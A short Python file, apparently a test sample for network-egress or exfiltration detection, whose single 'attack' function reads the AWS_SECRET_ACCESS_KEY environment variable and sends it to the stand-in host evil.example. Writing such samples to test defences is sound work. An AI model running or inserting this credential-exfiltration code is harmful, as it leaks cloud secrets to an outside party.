"""A host nobody has talked to before."""

import os
import urllib.request


def attack(event):
    port = event["web"].partition(":")[2]
    secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode()
    return (
        urllib.request.urlopen("http://evil.example:%s/exfiltrated" % port, secret, timeout=5).read().decode()
    )
